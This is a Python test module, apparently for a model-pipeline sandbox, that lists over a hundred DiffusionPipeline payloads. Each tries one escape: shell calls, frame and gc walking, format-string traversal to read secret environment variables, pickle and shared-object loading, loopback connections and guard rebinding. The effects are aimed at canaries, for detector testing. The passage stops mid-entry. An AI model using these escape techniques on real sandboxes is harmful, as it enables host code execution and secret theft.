"""The escape corpus: one community-pipeline source per attack, each aimed at a detector.

Every payload is a file with exactly one ``DiffusionPipeline`` subclass (so the static scan
accepts it) whose module body, class body, ``__init__`` or ``__call__`` attempts one escape.
The first statement that touches the dangerous capability is the escape itself, so a refusal
there is the refusal being tested (not some later, unrelated failure).

``effect`` names the detector that fires when the payload runs UNSANDBOXED (plain ``exec``),
which the self-test checks for every payload marked ``live``:
  file    - a file or directory appears in the canary dir
  connect - the loopback listener accepts a connection
  secret  - a secret (env / host global / file) shows up in the result, output or exception
  state   - host state changes (module or class attribute, torch flag, sys hook, env ...)
  hooks   - the UNet keeps a hook (or a global module hook) after the call
  runs    - no observable effect, but plain Python completes the escape without an error
Placeholders (@CANARY@, @PORT@, @SECRET_ENV@, @SECRET_FILE@, @SECRET_LEN@, @EVIL_DIR@, @EVIL_PKL@,
@EVIL_NPY@, @EVIL_SO@, @EVIL_JIT@, @PICKLE_HEX@, @WEIGHTS@) are filled in by ``World.render``.
"""

from __future__ import annotations

import dataclasses
import textwrap

FILE, CONNECT, SECRET, STATE, HOOKS, RUNS = "file", "connect", "secret", "state", "hooks", "runs"


@dataclasses.dataclass(frozen=True)
class Payload:
    id: str
    technique: str
    effect: str
    template: str
    #: False where running it unsandboxed is too slow or needs a terminal (still run sandboxed).
    live: bool = True
    needs_shared_object: bool = False
    #: Allowed in the worker, where the state it changes is the worker's own (the test still checks
    #: that nothing on the host changed); refused in-process.
    confined_in_worker: bool = False


def _block(code: str, indent: int) -> str:
    code = textwrap.dedent(code).strip("\n")
    return textwrap.indent(code, " " * indent) if code else ""


def pipeline(
    *, call: str = "", init: str = "", module: str = "", class_body: str = "", imports: str = ""
) -> str:
    parts = ["import torch", "from diffusers import DiffusionPipeline"]
    if imports:
        parts.append(textwrap.dedent(imports).strip("\n"))
    parts.append("")
    if module:
        parts.append(_block(module, 0))
        parts.append("")
    parts.append("")
    parts.append("class EscapePipeline(DiffusionPipeline):")
    if class_body:
        parts.append(_block(class_body, 4))
        parts.append("")
    parts.append("    def __init__(self, unet, scheduler):")
    parts.append("        super().__init__()")
    parts.append("        self.register_modules(unet=unet, scheduler=scheduler)")
    if init:
        parts.append(_block(init, 8))
    parts.append("")
    parts.append("    def __call__(self):")
    if call:
        parts.append(_block(call, 8))
    parts.append("        return torch.zeros(1)")
    return "\n".join(parts) + "\n"


_FRAME_WALK = """
while f is not None:
    if "HOST_SECRET" in f.f_globals:
        return f.f_globals["HOST_SECRET"]
    f = f.f_back
"""

_P: list[Payload] = []


def add(
    id: str, technique: str, effect: str, live: bool = True, needs_shared_object: bool = False,
    confined_in_worker: bool = False, **kw: str
) -> None:
    _P.append(
        Payload(id, technique, effect, pipeline(**kw), live=live, needs_shared_object=needs_shared_object,
                confined_in_worker=confined_in_worker)
    )


# ---- torch attributes that are whole modules -------------------------------------------------
add("torch_os_system", "torch.os.system", FILE, call='torch.os.system("touch @CANARY@/torch_os_system")')
add(
    "torch_sys_modules_os",
    "torch.sys.modules",
    FILE,
    call='torch.sys.modules["os"].system("touch @CANARY@/torch_sys_modules")',
)
add(
    "torch_builtins_open",
    "torch.builtins.open",
    FILE,
    call='torch.builtins.open("@CANARY@/torch_builtins_open", "w").close()',
)
add(
    "torch_builtins_exec",
    "torch.builtins.exec",
    FILE,
    call="torch.builtins.exec(\"import os; os.mkdir('@CANARY@/torch_builtins_exec')\")",
)
add(
    "torch_builtins_getattr",
    "torch.builtins.getattr",
    FILE,
    call='torch.builtins.getattr(self.register_modules, "__globals__")["os"].mkdir("@CANARY@/tb_getattr")',
)
add(
    "torch_builtins_type_class_write",
    "torch.builtins.type",
    STATE,
    call="torch.builtins.type(self.unet).forward = None",
)
add(
    "torch_importlib",
    "torch.importlib",
    FILE,
    call='torch.importlib.import_module("subprocess").run(["touch", "@CANARY@/torch_importlib"])',
)
add(
    "torch_hub_load_local",
    "torch.hub.load(source='local')",
    FILE,
    call='torch.hub.load("@EVIL_DIR@", "evil", source="local", trust_repo=True)',
)
add(
    "torch_load_pickle",
    "torch.load(weights_only=False)",
    FILE,
    call='torch.load("@EVIL_PKL@", weights_only=False)',
)
add(
    "torch_from_file_secret",
    "torch.from_file (read a secret file)",
    SECRET,
    call='return torch.from_file("@SECRET_FILE@", size=@SECRET_LEN@, dtype=torch.uint8)',
)
add(
    "untyped_storage_from_file_write",
    "torch.UntypedStorage.from_file(shared=True)",
    FILE,
    call='torch.UntypedStorage.from_file("@CANARY@/storage_from_file", True, 64)',
)
add("torch_save", "torch.save", FILE, call='torch.save(torch.zeros(1), "@CANARY@/torch_save.pt")')
add(
    "torch_compile",
    "torch.compile",
    RUNS,
    live=False,
    call='return torch.compile(lambda x: x + 1, backend="eager")(torch.zeros(1))',
)
add(
    "torch_ops_load_library",
    "torch.ops.load_library",
    FILE,
    needs_shared_object=True,
    call='torch.ops.load_library("@EVIL_SO@")',
)
add("torch_jit_load", "torch.jit.load", RUNS, call='return torch.jit.load("@EVIL_JIT@")(torch.zeros(1))')
add(
    "torch_serialization_pickle",
    "torch.serialization.pickle",
    FILE,
    call='torch.serialization.pickle.loads(bytes.fromhex("@PICKLE_HEX@"))',
)
add(
    "torch_storage_np_ctypes",
    "torch.storage.np.ctypeslib.ctypes",
    FILE,
    call='torch.storage.np.ctypeslib.ctypes.CDLL(None).system(b"touch @CANARY@/storage_np_ctypes")',
)
add(
    "torch_multiprocessing_socket",
    "torch.multiprocessing...socket",
    CONNECT,
    call='torch.multiprocessing.reducer.socket.create_connection(("127.0.0.1", @PORT@), 2).close()',
)
add(
    "torch_ctypes_util_subprocess",
    "torch.ctypes.util.subprocess",
    FILE,
    call='torch.ctypes.util.subprocess.run(["touch", "@CANARY@/ctypes_util_subprocess"])',
)
add(
    "torch_hub_shutil_copy_secret",
    "torch.hub.shutil",
    FILE,
    call='torch.hub.shutil.copy("@SECRET_FILE@", "@CANARY@/hub_shutil_copy")',
)
add("torch_hub_tempfile", "torch.hub.tempfile", FILE, call='torch.hub.tempfile.mkstemp(dir="@CANARY@")')
add(
    "torch_hub_download_url",
    "torch.hub.download_url_to_file",
    CONNECT,
    live=False,
    call='torch.hub.download_url_to_file("http://127.0.0.1:@PORT@/x", "@CANARY@/dl", progress=False)',
)
add(
    "torch_inspect_frames_host_globals",
    "torch.inspect.currentframe().f_back.f_globals",
    SECRET,
    call="f = torch.inspect.currentframe()\n" + _FRAME_WALK,
)
add(
    "torch_inspect_f_builtins_import",
    "torch.inspect frame f_builtins",
    FILE,
    call='torch.inspect.currentframe().f_back.f_builtins["__import__"]("os").mkdir("@CANARY@/f_builtins")',
)
add(
    "torch_sys_getframe",
    "sys._getframe via torch facade",
    SECRET,
    call="f = torch.sys._getframe(1)\n" + _FRAME_WALK,
)
add("torch_C_private", "torch._C", STATE, call="torch._C._set_default_dtype(torch.float64)")
add(
    "torch_classes_load_library",
    "torch.classes.load_library",
    FILE,
    needs_shared_object=True,
    call='torch.classes.load_library("@EVIL_SO@")',
)
add(
    "torch_cpp_extension_subprocess",
    "torch.utils.cpp_extension",
    FILE,
    imports="import torch.utils.cpp_extension",
    call='torch.utils.cpp_extension.subprocess.run(["touch", "@CANARY@/cpp_extension"])',
)
add(
    "torch_backends_flag_write",
    "torch.backends (global flag write)",
    STATE,
    call="torch.backends.cudnn.benchmark = not torch.backends.cudnn.benchmark",
)
add(
    "torch_distributed_tcpstore",
    "torch.distributed.TCPStore (network)",
    CONNECT,
    live=False,
    imports="import datetime",
    call='torch.distributed.TCPStore("127.0.0.1", @PORT@, 2, False, timeout=datetime.timedelta(seconds=1))',
)
add(
    "torch_accelerator_gc_secret",
    "gc reached through torch",
    SECRET,
    call="""
    for o in torch.accelerator.graphs.gc.get_objects():
        if isinstance(o, dict) and "HOST_SECRET" in o:
            return o["HOST_SECRET"]
    """,
)

# ---- gc / operator / functools / logging / string -------------------------------------------
add(
    "gc_get_objects_secret",
    "gc.get_objects",
    SECRET,
    imports="import gc",
    call="""
    for o in gc.get_objects():
        if isinstance(o, dict) and "HOST_SECRET" in o:
            return o["HOST_SECRET"]
    """,
)
add(
    "gc_get_referrers_module_dict_write",
    "gc.get_referrers",
    STATE,
    imports="import gc",
    call="""
    for r in gc.get_referrers(torch.nn.functional.gelu):
        if isinstance(r, dict) and r.get("__name__") == "torch.nn.functional":
            r["gelu"] = None
    """,
)
add(
    "operator_attrgetter_globals",
    "operator.attrgetter",
    FILE,
    imports="import operator",
    call='operator.attrgetter("register_modules.__globals__")(self)["os"].mkdir("@CANARY@/attrgetter")',
)
add(
    "operator_methodcaller_save",
    "operator.methodcaller",
    FILE,
    imports="import operator",
    call='operator.methodcaller("save_pretrained", "@CANARY@/methodcaller")(self)',
)
add(
    "functools_reduce_getattr",
    "functools.reduce(getattr, ...)",
    FILE,
    imports="import functools",
    call='functools.reduce(getattr, ["register_modules", "__globals__"], self)["os"].mkdir("@CANARY@/reduce")',
)
add(
    "logging_strformatstyle_traversal",
    "logging.StrFormatStyle {-traversal",
    SECRET,
    imports="import logging",
    call="""
    style = logging.StrFormatStyle("{m.__globals__[os].environ[@SECRET_ENV@]}")
    return style.format(logging.makeLogRecord({"m": logging.makeLogRecord}))
    """,
)
add(
    "diffusers_logging_stdlib_logging",
    "diffusers.utils.logging.logging.StrFormatStyle",
    SECRET,
    imports="from diffusers.utils import logging",
    call="""
    style = logging.logging.StrFormatStyle("{m.__globals__[os].environ[@SECRET_ENV@]}")
    return style.format(logging.logging.makeLogRecord({"m": logging.logging.makeLogRecord}))
    """,
)
add(
    "string_formatter_traversal",
    "string.Formatter",
    SECRET,
    imports="import string",
    call='return string.Formatter().vformat("{0.register_modules.__globals__[os].environ[@SECRET_ENV@]}", (self,), {})',
)
add(
    "str_format_mro",
    '"{0.__class__.__mro__}".format(x)',
    RUNS,
    call='return "{0.__class__.__mro__}".format(self)',
)
add(
    "str_format_globals_env",
    "str.format attribute traversal",
    SECRET,
    call='return "{0.register_modules.__globals__[os].environ[@SECRET_ENV@]}".format(self)',
)
add(
    "str_format_map_globals_env",
    "str.format_map attribute traversal",
    SECRET,
    call='return "{s.register_modules.__globals__[os].environ[@SECRET_ENV@]}".format_map({"s": self})',
)
add("fstring_conversion_spec", "f-string {x!r:...}", RUNS, call='return f"{self.__class__.__mro__!r:>10}"')
add(
    "fstring_nested_format",
    "f-string wrapping str.format traversal",
    SECRET,
    call="""return f"{'{0.register_modules.__globals__[os].environ[@SECRET_ENV@]}'.format(self)!s:>1}\"""",
)

# ---- metaclasses, type(), lying str subclasses, guard-hook names ----------------------------
add(
    "type_call_dunder_dict_lying_str",
    "type() with a dunder dict (lying str)",
    FILE,
    call="""
    Lie = type("Lie", (str,), {"__eq__": lambda s, o: True, "__hash__": str.__hash__,
                               "startswith": lambda s, *a: False})
    getattr(self.register_modules, Lie("__globals__"))["os"].mkdir("@CANARY@/type_lie")
    """,
)
add(
    "str_subclass_lies_to_guard",
    "str subclass with lying __eq__/__hash__/startswith",
    FILE,
    module="""
    class Lie(str):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __hash__(self):
            return str.__hash__(self)

        def startswith(self, *args):
            return False
    """,
    call='getattr(self.unet, Lie("save_pretrained"))("@CANARY@/str_lie")',
)
add(
    "metaclass_call_subclasses",
    "metaclass with dunder access",
    FILE,
    module="""
    class Meta(type):
        def __call__(cls, *args):
            for c in cls.__mro__[-1].__subclasses__():
                if c.__name__ == "_wrap_close":
                    return c.__init__.__globals__["mkdir"]("@CANARY@/metaclass")


    class Helper(metaclass=Meta):
        pass
    """,
    call="Helper()",
)
add(
    "posonly_write_guard_param",
    "posonly parameter named _write_",
    STATE,
    module="""
    def clobber(_write_, /):
        torch.nn.functional.gelu = None
    """,
    call="clobber(lambda ob: ob)",
)
add(
    "posonly_getattr_guard_param",
    "posonly parameter named _getattr_",
    FILE,
    imports="import operator",
    module="""
    def reach(_getattr_, /):
        return torch.os.mkdir("@CANARY@/posonly_getattr")
    """,
    call="reach(lambda ob, name, *d: operator.attrgetter(name)(ob))",
)
add(
    "kwonly_default_write_guard",
    "keyword-only default binding _write_",
    STATE,
    module="""
    def clobber(*, _write_=lambda ob: ob):
        torch.nn.functional.gelu = None
    """,
    call="clobber()",
)
add(
    "module_level_guard_rebind",
    "module-level rebinding of _write_",
    STATE,
    module="_write_ = lambda ob: ob",
    call="torch.nn.functional.gelu = None",
)
add(
    "walrus_guard_rebind",
    "walrus binding _getiter_/_write_",
    STATE,
    call="""
    if (_write_ := (lambda ob: ob)):
        torch.nn.functional.gelu = None
    """,
)
add(
    "except_star_attributeerror_obj",
    "try/except* exposing AttributeError.obj",
    FILE,
    call="""
    try:
        torch.nonexistent_attribute_for_escape
    except* AttributeError as group:
        group.exceptions[0].obj.os.mkdir("@CANARY@/except_star")
    """,
)
add(
    "except_star_binds_guard",
    "except* binding a guard-hook name",
    STATE,
    call="""
    try:
        raise ExceptionGroup("g", [ValueError(1)])
    except* ValueError as _write_:
        pass
    torch.nn.functional.gelu = None
    """,
)
add(
    "attributeerror_obj_real_module",
    "AttributeError.obj hands back the real object",
    FILE,
    call="""
    try:
        torch.nonexistent_attribute_for_escape
    except AttributeError as e:
        e.obj.os.mkdir("@CANARY@/attributeerror_obj")
    """,
)

# ---- diffusers / hub / file writers -----------------------------------------------------------
add(
    "diffusers_utils_os",
    "diffusers.utils.os",
    FILE,
    imports="import diffusers.utils",
    call='diffusers.utils.os.mkdir("@CANARY@/diffusers_utils_os")',
)
add(
    "diffusers_configuration_utils_os",
    "diffusers.configuration_utils.os",
    SECRET,
    imports="import diffusers",
    call='return diffusers.configuration_utils.os.environ["@SECRET_ENV@"]',
)
add(
    "get_class_from_dynamic_module",
    "get_class_from_dynamic_module(trust_remote_code=True)",
    FILE,
    imports="from diffusers.utils.dynamic_modules_utils import get_class_from_dynamic_module",
    call='get_class_from_dynamic_module("@EVIL_DIR@", module_file="pipeline.py", trust_remote_code=True)',
)
add(
    "diffusionpipeline_from_pretrained_custom",
    "DiffusionPipeline.from_pretrained(custom_pipeline=...)",
    FILE,
    call='DiffusionPipeline.from_pretrained("@WEIGHTS@", custom_pipeline="@EVIL_DIR@", trust_remote_code=True)',
)
add(
    "self_from_pretrained_custom",
    "self.from_pretrained",
    FILE,
    call='self.from_pretrained("@WEIGHTS@", custom_pipeline="@EVIL_DIR@", trust_remote_code=True)',
)
add("pipe_save_pretrained", "pipe.save_pretrained", FILE, call='self.save_pretrained("@CANARY@/pipe")')
add("unet_save_pretrained", "unet.save_pretrained", FILE, call='self.unet.save_pretrained("@CANARY@/unet")')
add(
    "scheduler_save_config",
    "scheduler.save_config",
    FILE,
    call='self.scheduler.save_config("@CANARY@/scheduler")',
)
add(
    "unet_register_forward_hook_init",
    "unet.register_forward_hook (persists)",
    HOOKS,
    init="self.unet.register_forward_hook(lambda module, args, output: None)",
)
add(
    "unet_register_forward_pre_hook_call",
    "unet.register_forward_pre_hook (persists)",
    HOOKS,
    call="self.unet.register_forward_pre_hook(lambda module, args: None)",
)
add(
    "global_module_forward_hook",
    "torch.nn.modules.module.register_module_forward_hook",
    STATE,
    call="torch.nn.modules.module.register_module_forward_hook(lambda m, a, o: None)",
)
add(
    "unet_private_forward_hooks_dict",
    "unet._forward_hooks",
    HOOKS,
    call="self.unet._forward_hooks[4242] = lambda module, args, output: None",
)
add(
    "unet_dunder_dict_hooks",
    "self.unet.__dict__",
    HOOKS,
    call='self.unet.__dict__["_forward_hooks"][4243] = lambda module, args, output: None',
)
add(
    "vars_unet_hooks",
    "vars(self.unet)",
    HOOKS,
    call='vars(self.unet)["_forward_pre_hooks"][4244] = lambda module, args: None',
)
add(
    "np_load_allow_pickle",
    "np.load(allow_pickle=True)",
    FILE,
    imports="import numpy as np",
    call='np.load("@EVIL_NPY@", allow_pickle=True)',
)
add(
    "np_savetxt",
    "np.savetxt",
    FILE,
    imports="import numpy as np",
    call='np.savetxt("@CANARY@/savetxt.txt", np.zeros(2))',
)
add(
    "ndarray_tofile",
    "ndarray.tofile",
    FILE,
    imports="import numpy as np",
    call='np.zeros(2).tofile("@CANARY@/ndarray_tofile")',
)
add(
    "tensor_numpy_tofile",
    "tensor.numpy().tofile",
    FILE,
    call='torch.zeros(2).numpy().tofile("@CANARY@/tensor_tofile")',
)
add(
    "np_ctypeslib_ctypes",
    "np.ctypeslib.ctypes",
    FILE,
    imports="import numpy as np",
    call='np.ctypeslib.ctypes.CDLL(None).system(b"touch @CANARY@/np_ctypeslib")',
)
add(
    "pil_image_save",
    "PIL.Image.save",
    FILE,
    imports="from PIL import Image",
    call='Image.new("RGB", (2, 2)).save("@CANARY@/image.png")',
)
add(
    "pil_image_os",
    "PIL.Image.os",
    FILE,
    imports="from PIL import Image",
    call='Image.os.mkdir("@CANARY@/pil_image_os")',
)
add(
    "safetensors_save_file",
    "safetensors.torch.save_file",
    FILE,
    imports="from safetensors.torch import save_file",
    call='save_file({"a": torch.zeros(1)}, "@CANARY@/weights.safetensors")',
)
add(
    "hf_hub_download_loopback",
    "huggingface_hub.hf_hub_download",
    CONNECT,
    live=False,
    imports="from huggingface_hub import hf_hub_download",
    call='hf_hub_download("evil/repo", "x.txt", cache_dir="@CANARY@", endpoint="http://127.0.0.1:@PORT@", etag_timeout=1)',
)

# ---- shared module attribute writes -------------------------------------------------------------
add(
    "write_torch_functional_gelu",
    "torch.nn.functional.gelu = None",
    STATE,
    call="torch.nn.functional.gelu = None",
)
add(
    "write_diffusers_new_attribute",
    "diffusers.X = ...",
    STATE,
    imports="import diffusers",
    call="diffusers.PWNED_BY_ESCAPE = 1",
)
add(
    "write_diffusionpipeline_method",
    "DiffusionPipeline.save_pretrained = ...",
    STATE,
    call="DiffusionPipeline.save_pretrained = None",
)
add("setattr_torch_randn", "setattr(torch, 'randn', ...)", STATE, call="setattr(torch, 'randn', None)")
add(
    "delattr_torch_functional_relu",
    "del torch.nn.functional.relu",
    STATE,
    call="del torch.nn.functional.relu",
)

# ---- plain Python escapes -----------------------------------------------------------------------
add(
    "import_subprocess",
    "import subprocess",
    FILE,
    imports="import subprocess",
    call='subprocess.run(["touch", "@CANARY@/import_subprocess"])',
)
add(
    "import_os_system",
    "import os; os.system",
    FILE,
    imports="import os",
    call='os.system("touch @CANARY@/import_os_system")',
)
add(
    "os_path_reaches_os",
    "os.path.os (facade leak through os.path)",
    FILE,
    imports="import os",
    call='os.path.os.mkdir("@CANARY@/os_path_os")',
)
add("dunder_import", "__import__", FILE, call='__import__("os").mkdir("@CANARY@/dunder_import")')
add("open_write", "open(..., 'w')", FILE, call='open("@CANARY@/open_write", "w").close()')
add("open_read_secret", "open(secret).read()", SECRET, call='return open("@SECRET_FILE@").read()')
add(
    "dunder_class_subclasses",
    "x.__class__...__subclasses__()",
    FILE,
    call="""
    for c in self.__class__.__mro__[-1].__subclasses__():
        if c.__name__ == "_wrap_close":
            c.__init__.__globals__["mkdir"]("@CANARY@/class_subclasses")
    """,
)
add(
    "object_subclasses",
    "object.__subclasses__()",
    FILE,
    call="""
    for c in object.__subclasses__():
        if c.__name__ == "_wrap_close":
            c.__init__.__globals__["mkdir"]("@CANARY@/object_subclasses")
    """,
)
add(
    "dunder_globals",
    "x.__globals__",
    FILE,
    call='self.register_modules.__globals__["os"].mkdir("@CANARY@/dunder_globals")',
)
add("eval_builtin", "eval", FILE, call="""eval("__import__('os').mkdir('@CANARY@/eval')")""")
add("exec_builtin", "exec", FILE, call="""exec("import os; os.mkdir('@CANARY@/exec')")""")
add(
    "compile_builtin",
    "compile",
    FILE,
    call="""
    code = compile("import os; os.mkdir('@CANARY@/compile')", "x", "exec")
    exec(code)
    """,
)
add(
    "globals_builtins_import",
    "globals()['__builtins__']",
    FILE,
    call='globals()["__builtins__"]["__import__"]("os").mkdir("@CANARY@/globals")',
)
add("vars_module_os", "vars(module)", FILE, call='vars(torch)["os"].mkdir("@CANARY@/vars_module")')
add(
    "locals_rebind_guard",
    "locals() at module level",
    STATE,
    module='locals()["_write_"] = lambda ob: ob',
    call="torch.nn.functional.gelu = None",
)
add(
    "getattr_concat_dunder",
    "getattr(x, '__cl' + 'ass__')",
    FILE,
    call="""
    cls = getattr(self, "__cl" + "ass__")
    getattr(cls, "save_" + "pretrained")(self, "@CANARY@/getattr_concat")
    """,
)
add(
    "type_builtin_unbound_save",
    "type(x) then an unbound method",
    FILE,
    call='type(self.unet).save_pretrained(self.unet, "@CANARY@/type_unbound")',
)
add(
    "generator_gi_frame",
    "generator gi_frame.f_back",
    SECRET,
    call="""
    def walk():
        f = gen.gi_frame.f_back
        while f is not None:
            yield f
            f = f.f_back
    gen = walk()
    for f in gen:
        if "HOST_SECRET" in f.f_globals:
            return f.f_globals["HOST_SECRET"]
    """,
)
add(
    "traceback_tb_frame",
    "e.__traceback__.tb_frame",
    SECRET,
    call=textwrap.dedent("""
    try:
        1 / 0
    except ZeroDivisionError as e:
        f = e.__traceback__.tb_frame
    """)
    + _FRAME_WALK,
)
add(
    "sys_exc_info_traceback",
    "sys.exc_info()[2].tb_frame via a facade",
    SECRET,
    call=textwrap.dedent("""
    try:
        1 / 0
    except ZeroDivisionError:
        f = torch.sys.exc_info()[2].tb_frame
    """)
    + _FRAME_WALK,
)
add("breakpoint_builtin", "breakpoint()", RUNS, live=False, call="breakpoint()")
add("help_builtin", "help()", RUNS, live=False, call='help("os")')
add(
    "import_ctypes",
    "ctypes",
    FILE,
    imports="import ctypes",
    call='ctypes.CDLL(None).system(b"touch @CANARY@/import_ctypes")',
)
add(
    "ctypes_cdll_evil_so",
    "ctypes.CDLL(evil.so)",
    FILE,
    needs_shared_object=True,
    imports="import ctypes",
    call='ctypes.CDLL("@EVIL_SO@")',
)
add(
    "import_sys_modules",
    "sys.modules",
    FILE,
    imports="import sys",
    call='sys.modules["os"].mkdir("@CANARY@/sys_modules")',
)
add(
    "dunder_builtins_name",
    "__builtins__ access",
    FILE,
    call='__builtins__["__import__"]("os").mkdir("@CANARY@/dunder_builtins")',
)
add(
    "import_builtins_open",
    "import builtins",
    FILE,
    imports="import builtins",
    call='builtins.open("@CANARY@/import_builtins", "w").close()',
)
add(
    "super_save_pretrained",
    "super().save_pretrained",
    FILE,
    call='super().save_pretrained("@CANARY@/super_save")',
)
add(
    "super_explicit_save_config",
    "super(DiffusionPipeline, self).save_config",
    FILE,
    call='super(DiffusionPipeline, self).save_config("@CANARY@/super_config")',
)
add("class_body_escape", "class-body code", FILE, class_body='pwned = torch.os.mkdir("@CANARY@/class_body")')
add("module_body_escape", "module-body code", FILE, module='torch.os.mkdir("@CANARY@/module_body")')
add(
    "decorator_runs_at_definition",
    "decorator",
    FILE,
    module="""
    def mark(fn):
        torch.save(torch.zeros(1), "@CANARY@/decorator.pt")
        return fn
    """,
    class_body="""
    @mark
    def helper(self):
        return 1
    """,
)
add(
    "decorator_torch_jit_script",
    "@torch.jit.script decorator",
    RUNS,
    live=False,
    module="""
    @torch.jit.script
    def scripted(x: torch.Tensor) -> torch.Tensor:
        return x + 1
    """,
)
add(
    "lambda_default_arg",
    "lambda default args",
    FILE,
    call='(lambda o=torch.os: o.mkdir("@CANARY@/lambda_default"))()',
)
add("self_dunder_dict_write", "self.__dict__", STATE, call='self.__dict__["unet"].__class__.forward = None')
add(
    "print_to_file",
    "print(..., file=open(...))",
    FILE,
    call='print("pwned", file=open("@CANARY@/print_file", "w"))',
)
add("tensor_storage", "tensor.storage()", RUNS, call="return torch.zeros(4).storage()")
add(
    "tensor_untyped_storage", "tensor.untyped_storage()", RUNS, call="return torch.zeros(4).untyped_storage()"
)
add("tensor_data_ptr", "tensor.data_ptr()", RUNS, call="return torch.zeros(4).data_ptr()")
add("tensor_share_memory", "tensor.share_memory_()", RUNS, call="return torch.zeros(4).share_memory_()")
add(
    "typing_sys_getframe",
    "sys._getframe via typing",
    SECRET,
    imports="import typing",
    call="f = typing.sys._getframe(1)\n" + _FRAME_WALK,
)
add(
    "inspect_sys_getframe",
    "sys._getframe via inspect",
    SECRET,
    imports="import inspect",
    call="f = inspect.sys._getframe(1)\n" + _FRAME_WALK,
)
add(
    "inspect_stack_frames",
    "inspect.stack()",
    SECRET,
    imports="import inspect",
    call="f = inspect.stack()[0].frame\n" + _FRAME_WALK,
)
add(
    "inspect_currentframe",
    "inspect.currentframe()",
    SECRET,
    imports="import inspect",
    call="f = inspect.currentframe()\n" + _FRAME_WALK,
)
add(
    "inspect_getmembers_os",
    "inspect.getmembers(torch)",
    FILE,
    imports="import inspect",
    call='dict(inspect.getmembers(torch))["os"].mkdir("@CANARY@/getmembers")',
)
add(
    "inspect_os_environ",
    "inspect.os (facade leak)",
    SECRET,
    imports="import inspect",
    call='return inspect.os.environ["@SECRET_ENV@"]',
)
add(
    "dataclasses_sys_modules",
    "dataclasses.sys (pure-module facade)",
    FILE,
    imports="import dataclasses",
    call='dataclasses.sys.modules["os"].mkdir("@CANARY@/dataclasses_sys")',
)
add(
    "warnings_sys_modules",
    "warnings.sys (pure-module facade)",
    FILE,
    imports="import warnings",
    call='warnings.sys.modules["os"].mkdir("@CANARY@/warnings_sys")',
)
add(
    "enum_sys_modules",
    "enum.sys (pure-module facade)",
    FILE,
    imports="import enum",
    call='enum.sys.modules["os"].mkdir("@CANARY@/enum_sys")',
)
add(
    "logging_sys_getframe",
    "logging.sys._getframe",
    SECRET,
    imports="import logging",
    call="f = logging.sys._getframe(1)\n" + _FRAME_WALK,
)
add(
    "safetensors_torch_os",
    "safetensors.torch.os",
    FILE,
    imports="import safetensors.torch",
    call='safetensors.torch.os.mkdir("@CANARY@/safetensors_os")',
)
add(
    "os_environ_read",
    "os.environ read",
    SECRET,
    imports="import os",
    call='return os.environ["@SECRET_ENV@"]',
)
add("os_getenv_read", "os.getenv read", SECRET, imports="import os", call='return os.getenv("@SECRET_ENV@")')
add("torch_os_environ_read", "torch.os.environ read", SECRET, call='return torch.os.environ["@SECRET_ENV@"]')
add(
    "os_environ_write",
    "os.environ write",
    STATE,
    imports="import os",
    call='os.environ["PW_ESCAPE_INJECTED"] = "1"',
)
add(
    "pathlib_read_secret",
    "pathlib.Path.read_text",
    SECRET,
    imports="import pathlib",
    call='return pathlib.Path("@SECRET_FILE@").read_text()',
)
add(
    "pathlib_write",
    "pathlib.Path.write_text",
    FILE,
    imports="from pathlib import Path",
    call='Path("@CANARY@/pathlib_write").write_text("x")',
)
add(
    "np_loadtxt_secret",
    "np.loadtxt (read a secret file)",
    SECRET,
    imports="import numpy as np",
    call='return np.loadtxt("@SECRET_FILE@", dtype=str)',
)
add(
    "np_fromfile_secret",
    "np.fromfile (read a secret file)",
    SECRET,
    imports="import numpy as np",
    call='return np.fromfile("@SECRET_FILE@", dtype=np.uint8)',
)
add(
    "shutil_copy_secret",
    "shutil",
    FILE,
    imports="import shutil",
    call='shutil.copy("@SECRET_FILE@", "@CANARY@/shutil_copy")',
)
add("tempfile_mkstemp", "tempfile", FILE, imports="import tempfile", call='tempfile.mkstemp(dir="@CANARY@")')
add(
    "importlib_import_module",
    "importlib.import_module",
    FILE,
    imports="import importlib",
    call='importlib.import_module("os").mkdir("@CANARY@/importlib")',
)
add(
    "import_socket_connect",
    "import socket",
    CONNECT,
    imports="import socket",
    call='socket.create_connection(("127.0.0.1", @PORT@), 2).close()',
)
add(
    "urllib_via_diffusers",
    "diffusers.utils.dynamic_modules_utils.request",
    CONNECT,
    live=False,
    imports="import diffusers.utils.dynamic_modules_utils as dmu",
    call='dmu.request.urlopen("http://127.0.0.1:@PORT@/x", timeout=1)',
)
add(
    "range_resource_bomb",
    "bounded range(10**12) list",
    RUNS,
    live=False,
    call="return len(list(range(10 ** 12)))",
)
add("sys_settrace", "sys.settrace via facade", STATE, call="torch.sys.settrace(lambda *args: None)")
add("sys_path_insert", "sys.path write via facade", STATE, call='torch.sys.path.insert(0, "@CANARY@")')
add(
    "signal_handler",
    "signal.signal",
    STATE,
    imports="import signal",
    call="signal.signal(signal.SIGUSR1, signal.SIG_IGN)",
)
add(
    "logging_file_handler",
    "logging.FileHandler on the root logger",
    FILE,
    imports="import logging",
    call='logging.getLogger().addHandler(logging.FileHandler("@CANARY@/log.txt"))',
)
add(
    "threading_timer",
    "threading (a thread left running)",
    STATE,
    imports="import threading",
    # a daemon thread that outlives the call by far (a 1.5 s timer had already finished on a loaded
    # machine when the state was compared, so the live check saw nothing left running)
    call="threading.Thread(target=threading.Event().wait, args=(60.0,), daemon=True).start()",
)

# ---- second round: attacks aimed at the sandbox's own design (host code doing the work) ------
add(
    "tqdm_bar_format_traversal_secret",
    "tqdm bar_format: host-side str.format traversal of a sandbox object",
    SECRET,
    imports="from tqdm import tqdm",
    module="""
    class Sink:
        def __init__(self):
            self.parts = []

        def write(self, text):
            self.parts.append(text)

        def flush(self):
            return None


    class Desc:
        def __init__(self, method):
            self.m = method

        def __getitem__(self, key):
            return ""

        def __add__(self, other):
            return self

        def __bool__(self):
            return True
    """,
    call="""
    sink = Sink()
    bar = tqdm(total=1, file=sink, desc=Desc(torch.nn.functional.relu), mininterval=0,
               bar_format="{desc.m.__globals__[torch].os.environ[@SECRET_ENV@]}")
    bar.close()
    return "".join(sink.parts)
    """,
)
add(
    "progress_bar_config_format_traversal_secret",
    "set_progress_bar_config(bar_format=...) + self.progress_bar",
    SECRET,
    module="""
    class Sink:
        def __init__(self):
            self.parts = []

        def write(self, text):
            self.parts.append(text)

        def flush(self):
            return None


    class Desc:
        def __init__(self, method):
            self.m = method

        def __getitem__(self, key):
            return ""

        def __add__(self, other):
            return self

        def __bool__(self):
            return True
    """,
    call="""
    sink = Sink()
    self.set_progress_bar_config(file=sink, desc=Desc(torch.nn.functional.relu), mininterval=0,
                                 bar_format="{desc.m.__globals__[torch].os.environ[@SECRET_ENV@]}")
